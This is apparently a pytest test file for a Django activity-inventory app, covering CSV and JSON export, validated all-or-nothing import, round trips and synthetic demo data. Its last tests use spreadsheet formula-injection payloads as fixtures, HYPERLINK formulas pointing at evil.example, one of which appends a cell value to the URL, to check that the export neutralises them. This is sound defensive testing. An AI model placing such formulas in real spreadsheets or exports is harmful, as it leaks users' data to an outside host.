"""Open data out (CSV export) and back in (import_inventory), and demo data."""

import datetime
import io
import json

from django.core.management import CommandError, call_command

import pytest

from demo.synthetic import create_entries
from home.models import StakeholderOrganisation
from inventory.models import EntryFacetValue, InventoryEntry
from inventory.regions import regions_for
from tests.factories import InventoryEntryFactory
from tests.helpers.inventory import GOOD_ROW, export_rows, run_import, write_csv
from tests.helpers.spreadsheets import assert_no_formula

API = "/api/inventory/"
# Columns that belong to the site an entry lives on, not to the entry.
SITE_COLUMNS = {"id", "url", "published_at"}


def api_ids(client, params=None):
    """Every id of a search, page after page, as the API gives them."""
    ids, page = [], 1
    while True:
        data = client.get(API, {**(params or {}), "page": page, "page_size": 100})
        data = data.json()
        ids += [row["id"] for row in data["results"]]
        if page >= data["num_pages"]:
            return ids
        page += 1


def public_record(row):
    return {key: value for key, value in row.items() if key not in SITE_COLUMNS}


# --- Export ---------------------------------------------------------------------


@pytest.fixture
def many(indexed):
    """105 public entries (more than one engine page of 100) and two hidden."""
    with indexed():
        for number in range(105):
            InventoryEntryFactory(
                title=f"Exported activity {number:03d}",
                action_lines=["C4"] if number % 3 else ["C4", "C9"],
                countries=["KEN"] if number % 2 else ["FRA"],
                reporting_year=2020 + number % 5,
            )
        InventoryEntryFactory(draft=True, title="Exported draft", action_lines=["C4"])
        withdrawn = InventoryEntryFactory(
            published=True, title="Exported then withdrawn", action_lines=["C4"]
        )
        withdrawn.unpublish()


def test_the_export_holds_exactly_the_search_results_of_all_pages(client, engine, many):
    for params, count in [
        ({}, 105),
        ({"action_line": "C9"}, len(range(0, 105, 3))),
        (
            {"region": "africa", "year": ["2021", "2023"]},
            sum(1 for n in range(105) if n % 2 and n % 5 in (1, 3)),
        ),
        ({"q": "exported", "sort": "title"}, 105),
        ({"action_line": "C4", "sort": "relevance", "q": "activity"}, 105),
        ({"q": "nothing-like-this"}, 0),
    ]:
        rows, text = export_rows(client, params)
        expected = api_ids(client, params)
        assert len(expected) == count, params
        assert [int(row["id"]) for row in rows] == expected, params
        assert "Exported draft" not in text
        assert "Exported then withdrawn" not in text
    rows, _text = export_rows(client, {"page": 3, "page_size": 10})
    assert len(rows) == 105, "the export holds every page"


def test_the_export_writes_every_public_field(client, tree):
    organisation = StakeholderOrganisation.objects.create(
        name="Agence du numérique", acronym="ADN", stakeholder_type="government"
    )
    partner = StakeholderOrganisation.objects.create(
        name='Réseau, "Villages"', stakeholder_type="civil-society"
    )
    entry = InventoryEntryFactory(
        title='E-health records, "pilot"',
        summary="Line one.\nLine two, with comma; and semicolon.",
        description="<p>Rich <b>text</b></p>",
        action_lines=["C7-EHEALTH", "C5"],
        sdgs=[3, 16],
        countries=["CIV", "global"],
        coverage="regional",
        stakeholder_type="government",
        organisation=organisation,
        partners=[partner],
        status="completed",
        start_date=datetime.date(2021, 3, 1),
        end_date=datetime.date(2023, 6, 30),
        reporting_year=2023,
        website="https://example.org/ehealth",
        keywords="health, records",
        team=tree.c5_team,
        title_fr="Dossiers de santé numériques",
        summary_fr="Ligne un.",
    )
    (row,), _text = export_rows(client)
    assert row == {
        "id": str(entry.pk),
        "reference": entry.reference,
        "title": 'E-health records, "pilot"',
        "summary": "Line one.\nLine two, with comma; and semicolon.",
        "description": "<p>Rich <b>text</b></p>",
        "activity_type": "project",
        "action_lines": "C7-EHEALTH;C5",
        "sdgs": "3;16",
        "countries": "CIV;global",
        "regions": "africa",
        "coverage": "regional",
        "stakeholder_type": "government",
        "organisation": "Agence du numérique",
        "organisation_acronym": "ADN",
        "partners": 'Réseau, "Villages"',
        "status": "completed",
        "start_date": "2021-03-01",
        "end_date": "2023-06-30",
        "year": "2023",
        "website": "https://example.org/ehealth",
        "keywords": "health;records",
        "team": "C5",
        "url": f"http://testserver/inventory/entries/{entry.pk}/",
        "published_at": entry.first_published_at.isoformat(),
        "language": "en",
        "title_en": "",
        "summary_en": "",
        "title_fr": "Dossiers de santé numériques",
        "summary_fr": "Ligne un.",
    }


# --- Import: whole files or nothing -------------------------------------------------


def test_a_good_csv_goes_to_moderation(tmp_path, db):
    path = write_csv(tmp_path / "good.csv", [GOOD_ROW, {**GOOD_ROW, "title": "Two"}])
    out, _err = run_import(path)
    assert "2 created, 0 updated" in out
    assert "moderation" in out
    entries = InventoryEntry.objects.order_by("pk")
    assert [entry.title for entry in entries] == [GOOD_ROW["title"], "Two"]
    for entry in entries:
        assert entry.live is False
        assert entry.first_published_at is None
        assert entry.current_workflow_state.status == "in_progress"
    first = entries[0]
    assert first.action_lines == ["C2", "C7-EAGRI"]
    assert first.countries == ["NPL", "BTN"]
    assert first.regions == ["asia-pacific"]
    assert first.sdgs == [9, 10]
    assert first.reporting_year == 2024


def test_entries_in_moderation_are_not_public(tmp_path, client, db):
    run_import(write_csv(tmp_path / "good.csv", [GOOD_ROW]))
    data = client.get(API, {"q": "mountain"}).json()
    assert data["count"] == 0
    rows, _text = export_rows(client)
    assert rows == []


def test_publish_makes_imported_entries_public(tmp_path, client, db):
    path = write_csv(tmp_path / "good.csv", [GOOD_ROW])
    out, _err = run_import(path, "--publish")
    assert "1 created, 0 updated, all published" in out
    entry = InventoryEntry.objects.get()
    assert entry.live is True
    assert entry.first_published_at is not None
    assert entry.live_revision is not None
    data = client.get(API, {"q": "mountain"}).json()
    assert [row["id"] for row in data["results"]] == [entry.pk]
    assert set(
        EntryFacetValue.objects.filter(entry=entry).values_list("facet", "value")
    ) >= {("region", "asia-pacific"), ("action_line", "C7-EAGRI"), ("sdg", "9")}


def test_a_json_file_as_the_api_writes_imports(tmp_path, db):
    path = tmp_path / "entries.json"
    path.write_text(
        json.dumps(
            {
                "count": 1,
                "page": 1,
                "results": [
                    {
                        **GOOD_ROW,
                        "action_lines": ["C2", "C7-EAGRI"],
                        "countries": ["NPL"],
                        "sdgs": [9],
                        "year": 2024,
                        "keywords": ["mesh", "wifi"],
                    }
                ],
                "facets": {},
            }
        ),
        encoding="utf-8",
    )
    out, _err = run_import(path, "--publish")
    assert "1 created" in out
    entry = InventoryEntry.objects.get()
    assert entry.action_lines == ["C2", "C7-EAGRI"]
    assert entry.keywords == "mesh, wifi"
    assert entry.live is True


BAD_ROWS = [
    # line 2: good
    GOOD_ROW,
    # line 3: no title
    {**GOOD_ROW, "title": ""},
    # line 4: two problems
    {**GOOD_ROW, "countries": "NPL;XXX", "sdgs": "9;18"},
    # line 5: good
    {**GOOD_ROW, "title": "Another good one"},
    # line 6
    {**GOOD_ROW, "year": "20x4"},
    # line 7
    {**GOOD_ROW, "action_lines": "C2;C99", "status": "finished"},
    # line 8
    {**GOOD_ROW, "website": "not a url", "start_date": "2024-13-01"},
    # line 9
    {**GOOD_ROW, "website": "https://example.org/" + "a" * 600},
    # line 10
    {**GOOD_ROW, "keywords": ";".join(f"keyword{n}" for n in range(60))},
]
BAD_ROW_PROBLEMS = [
    "line 3, title",
    "line 4, countries",
    "line 4, sdgs",
    "line 6, year",
    "line 7, status",
    "line 7, action_lines",
    "line 8, start_date",
    "line 8, website",
    "line 9, website",
    "line 10, keywords",
]


def test_a_csv_with_bad_rows_imports_nothing_and_lists_every_problem(tmp_path, db):
    columns = [*GOOD_ROW, "website", "start_date", "keywords"]
    path = write_csv(tmp_path / "bad.csv", BAD_ROWS, columns)
    with pytest.raises(CommandError) as raised:
        run_import(path, "--publish")
    assert "nothing was imported" in str(raised.value)
    assert "10 problems in 7 rows" in str(raised.value)
    assert InventoryEntry.objects.count() == 0
    assert StakeholderOrganisation.objects.count() == 0


def test_every_bad_row_is_reported_by_line_and_field(tmp_path, db):
    columns = [*GOOD_ROW, "website", "start_date", "keywords"]
    path = write_csv(tmp_path / "bad.csv", BAD_ROWS, columns)
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_inventory", str(path), stdout=io.StringIO(), stderr=err)
    reported = [line for line in err.getvalue().splitlines() if line.strip()]
    assert [line.split(":")[0] for line in reported] == BAD_ROW_PROBLEMS
    assert "line 2" not in err.getvalue()
    assert "line 5" not in err.getvalue()


def test_a_json_file_with_bad_rows_imports_nothing(tmp_path, db):
    path = tmp_path / "bad.json"
    rows = [
        {**GOOD_ROW, "action_lines": ["C2"], "countries": ["NPL"]},
        {**GOOD_ROW, "action_lines": ["C2"], "countries": ["MARS"]},
        {**GOOD_ROW, "action_lines": [], "countries": ["NPL"]},
    ]
    path.write_text(json.dumps({"results": rows}), encoding="utf-8")
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_inventory", str(path), stdout=io.StringIO(), stderr=err)
    assert err.getvalue().splitlines() == [
        "line 2, countries: not ISO 3166-1 alpha-3: MARS",
        "line 3, action_lines: required",
    ]
    assert InventoryEntry.objects.count() == 0


def test_a_repeated_reference_is_a_bad_row(tmp_path, db):
    rows = [
        {**GOOD_ROW, "reference": "WSIS-24-AAAAAA"},
        {**GOOD_ROW, "reference": "WSIS-24-AAAAAA"},
    ]
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command(
            "import_inventory",
            str(write_csv(tmp_path / "twice.csv", rows)),
            stdout=io.StringIO(),
            stderr=err,
        )
    assert err.getvalue().strip() == "line 3, reference: repeats line 2"
    assert InventoryEntry.objects.count() == 0


def test_a_dry_run_imports_nothing(tmp_path, db):
    path = write_csv(tmp_path / "good.csv", [GOOD_ROW, {**GOOD_ROW, "title": "Two"}])
    out, _err = run_import(path, "--dry-run", "--publish")
    assert "2 rows are valid" in out
    assert InventoryEntry.objects.count() == 0


def test_a_dry_run_still_reports_bad_rows(tmp_path, db):
    path = write_csv(tmp_path / "bad.csv", [{**GOOD_ROW, "status": "finished"}])
    with pytest.raises(CommandError, match="nothing was imported"):
        run_import(path, "--dry-run")


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("latin1.csv", "title,summary\nCafé,x\n".encode("latin-1"), "not UTF-8"),
        ("broken.json", b'{"results": [{"title": "x"', "invalid JSON"),
        ("shape.json", b'{"entries": []}', "expected a list"),
        ("rows.json", b'["a title"]', "expected a list"),
        ("noheader.csv", b"Rural broadband,Connecting schools\n", "CSV header"),
        ("empty.csv", b"", "CSV header"),
    ],
)
def test_an_unreadable_file_gives_a_clear_error(tmp_path, db, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(CommandError, match=message) as raised:
        run_import(path)
    assert name in str(raised.value)
    assert InventoryEntry.objects.count() == 0


def test_a_missing_file_gives_a_clear_error(tmp_path, db):
    with pytest.raises(CommandError, match="no such file"):
        run_import(tmp_path / "absent.csv")


# --- Round trips ---------------------------------------------------------------------


@pytest.fixture
def varied(tree):
    """Public entries using every public field, and one entry in moderation."""
    organisation = StakeholderOrganisation.objects.create(
        name="Ministère de l'Économie numérique",
        acronym="MEN",
        stakeholder_type="government",
    )
    partners = [
        StakeholderOrganisation.objects.create(
            name=name, stakeholder_type="civil-society"
        )
        for name in ("Alliance for Affordable Internet", 'Jeunes, "connectés"')
    ]
    entries = [
        InventoryEntryFactory(
            title="Digital identity for all",
            summary='National ID, first paragraph.\n\nSecond paragraph: "quoted".',
            description="<p>Built with <b>open</b> standards.</p><p>Two.</p>",
            action_lines=["C7-EGOV", "C6"],
            sdgs=[10, 16],
            countries=["SEN"],
            coverage="national",
            organisation=organisation,
            partners=partners,
            start_date=datetime.date(2022, 1, 15),
            end_date=datetime.date(2025, 12, 31),
            status="ongoing",
            reporting_year=2024,
            website="https://example.org/id?x=1&y=2",
            keywords="identity, e-government, inclusion",
            team=tree.c5_team,
        ),
        InventoryEntryFactory(
            title="مبادرة المحتوى العربي",
            summary="Arabic content online; ümlauts and accents: é, ñ.",
            language="ar",
            title_en="Arabic content initiative",
            summary_en="Arabic content online.",
            title_fr="Initiative pour le contenu arabe",
            action_lines=["C8"],
            countries=["EGY", "MAR", "global"],
            coverage="international",
            stakeholder_type="international-organization",
            activity_type="conference",
            status="planned",
            reporting_year=2026,
        ),
        InventoryEntryFactory(
            title="Cyber drill",
            summary="Yearly drill.",
            action_lines=["C5"],
            countries=["global"],
            activity_type="training",
            stakeholder_type="technical-community",
            status="completed",
            reporting_year=2021,
            start_date=datetime.date(2021, 5, 1),
            team=tree.c2_team,
        ),
    ]
    pending = InventoryEntryFactory(draft=True, title="Pending import check")
    return entries, pending


def test_export_delete_import_round_trips_every_public_field(client, tmp_path, varied):
    before, text = export_rows(client)
    assert len(before) == 3
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    entries, pending = varied
    InventoryEntry.objects.filter(pk__in=[entry.pk for entry in entries]).delete()
    out, _err = run_import(path, "--publish")
    assert "3 created, 0 updated, all published" in out
    after, _text = export_rows(client)
    by_reference = {row["reference"]: public_record(row) for row in after}
    expected = {row["reference"]: public_record(row) for row in before}
    for reference, record in expected.items():
        for key, value in record.items():
            assert by_reference[reference][key] == value, (reference, key)
    assert by_reference == expected
    assert {int(row["id"]) for row in after}.isdisjoint(e.pk for e in entries)
    assert InventoryEntry.objects.filter(pk=pending.pk, live=False).exists()


def test_api_json_delete_import_round_trips_every_public_field(
    client, tmp_path, varied
):
    before = client.get(API, {"page_size": 100}).json()
    assert before["count"] == 3
    path = tmp_path / "api.json"
    path.write_text(json.dumps(before), encoding="utf-8")
    entries, _pending = varied
    InventoryEntry.objects.filter(pk__in=[entry.pk for entry in entries]).delete()
    run_import(path, "--publish")
    after = client.get(API, {"page_size": 100}).json()

    def records(data):
        return {row["reference"]: public_record(row) for row in data["results"]}

    for reference, record in records(before).items():
        for key, value in record.items():
            assert records(after)[reference][key] == value, (reference, key)
    assert records(after) == records(before)
    assert after["facets"] == before["facets"]


def test_importing_an_export_again_updates_instead_of_duplicating(
    client, tmp_path, varied
):
    before, text = export_rows(client)
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    out, _err = run_import(path, "--publish")
    assert "0 created, 3 updated" in out
    after, _text = export_rows(client)
    assert len(after) == 3
    assert {row["reference"]: public_record(row) for row in after} == {
        row["reference"]: public_record(row) for row in before
    }


# --- Synthetic demo data ------------------------------------------------------------


def demo_titles(seed=7):
    return dict(
        InventoryEntry.objects.filter(
            reference__startswith=f"DEMO-{seed}-"
        ).values_list("reference", "title")
    )


def demo_snapshot(seed=7):
    rows = InventoryEntry.objects.filter(
        reference__startswith=f"DEMO-{seed}-"
    ).values_list(
        "reference",
        "title",
        "action_lines",
        "countries",
        "regions",
        "sdgs",
        "status",
        "reporting_year",
        "organisation__name",
    )
    return {reference: rest for reference, *rest in rows}


def seed_demo(entries, seed=7, **options):
    call_command(
        "seed_demo",
        "--entries",
        str(entries),
        "--seed",
        str(seed),
        "--no-index",
        **{"verbosity": 0, **options},
    )


def test_seed_demo_twice_gives_the_same_entries_and_adds_none(db):
    seed_demo(300)
    first = demo_titles()
    assert len(first) == 300
    assert len(set(first.values())) > 250, "titles vary"
    out = io.StringIO()
    seed_demo(300, stdout=out, verbosity=1)
    assert "0 synthetic inventory entries added" in out.getvalue()
    assert demo_titles() == first
    assert InventoryEntry.objects.count() == 300


def test_synthetic_entries_are_public_with_their_facet_values(db):
    create_entries(40, seed=7)
    entries = InventoryEntry.objects.filter(reference__startswith="DEMO-7-")
    assert entries.count() == 40
    for entry in entries:
        assert entry.live is True
        assert entry.first_published_at is not None
        assert entry.regions == regions_for(entry.countries)
        assert set(entry.facet_rows.values_list("facet", "value")) == set(
            entry.facet_values()
        )


def test_synthetic_entries_are_the_same_for_the_same_seed(db):
    create_entries(40, seed=7)
    first = demo_snapshot()
    InventoryEntry.objects.all().delete()
    StakeholderOrganisation.objects.all().delete()
    create_entries(40, seed=7)
    assert demo_snapshot() == first


def test_growing_the_demo_gives_the_entries_a_fresh_run_would(db):
    create_entries(40, seed=7)
    fresh = demo_snapshot()
    InventoryEntry.objects.all().delete()
    StakeholderOrganisation.objects.all().delete()
    create_entries(20, seed=7)
    create_entries(40, seed=7)
    assert demo_snapshot() == fresh


def test_export_guards_against_spreadsheet_formulas_and_import_undoes_it(
    client, tmp_path, tree
):
    """Formula-like cells are quoted on export and read back as text.

    A cell starting with "=", "+", "-" or "@" would run as a formula in a
    spreadsheet: the export quotes it, and the import gives the text back.
    """
    entry = InventoryEntryFactory(
        title='=HYPERLINK("http://evil.example","click")',
        summary="-2+3 people trained",
        keywords="@mention, plain",
    )
    (row,), text = export_rows(client)
    assert row["title"] == '\'=HYPERLINK("http://evil.example","click")'
    assert row["summary"] == "'-2+3 people trained"
    assert row["keywords"] == "'@mention;plain"
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    InventoryEntry.objects.filter(pk=entry.pk).delete()
    run_import(path, "--publish")
    imported = InventoryEntry.objects.get(reference=entry.reference)
    assert imported.title == entry.title
    assert imported.summary == entry.summary
    assert imported.keywords == "@mention, plain"


def test_export_guards_formulas_behind_separators_and_import_gives_text_back(
    client, tmp_path, tree
):
    """Excel in French, Spanish or Russian splits lines on ";".

    A formula behind one (or behind ",", a tab or a line break, spaces or a double
    quote) is guarded too, and a text that already starts with "'=" comes back as it
    was.
    """
    partner = StakeholderOrganisation.objects.create(
        name='Partners, "=HYPERLINK(""http://evil.example"")"',
        stakeholder_type="civil-society",
    )
    organisation = StakeholderOrganisation.objects.create(
        name="'=not a formula", stakeholder_type="government"
    )
    entry = InventoryEntryFactory(
        title='Schools;=HYPERLINK("http://evil.example/?d="&B1,"Open")',
        summary="Results:\r\n- 300 trained\n\t+ 20 trainers, @mention;  =1+1",
        keywords="plain, -negative",
        organisation=organisation,
        partners=[partner],
        title_fr="'-déjà protégé",
    )
    (row,), text = export_rows(client)
    assert_no_formula(text)
    assert row["title"] == 'Schools;\'=HYPERLINK("http://evil.example/?d="&B1,"Open")'
    assert row["organisation"] == "''=not a formula"
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8")
    InventoryEntry.objects.filter(pk=entry.pk).delete()
    run_import(path, "--publish")
    imported = InventoryEntry.objects.get(reference=entry.reference)
    assert imported.title == entry.title
    assert imported.summary == entry.summary
    assert imported.keywords == "plain, -negative"
    assert imported.title_fr == entry.title_fr
    assert imported.organisation.name == organisation.name
    assert [p.name for p in imported.partners.all()] == [partner.name]


def test_a_json_file_keeps_apostrophes_as_written(tmp_path, db):
    """The API's JSON carries no guard: nothing is taken off its text."""
    path = tmp_path / "entries.json"
    row = {
        **GOOD_ROW,
        "title": "'=kept",
        "summary": "x;'-kept too",
        "action_lines": ["C2"],
        "countries": ["NPL"],
    }
    path.write_text(json.dumps({"results": [row]}), encoding="utf-8")
    run_import(path, "--publish")
    entry = InventoryEntry.objects.get()
    assert (entry.title, entry.summary) == ("'=kept", "x;'-kept too")
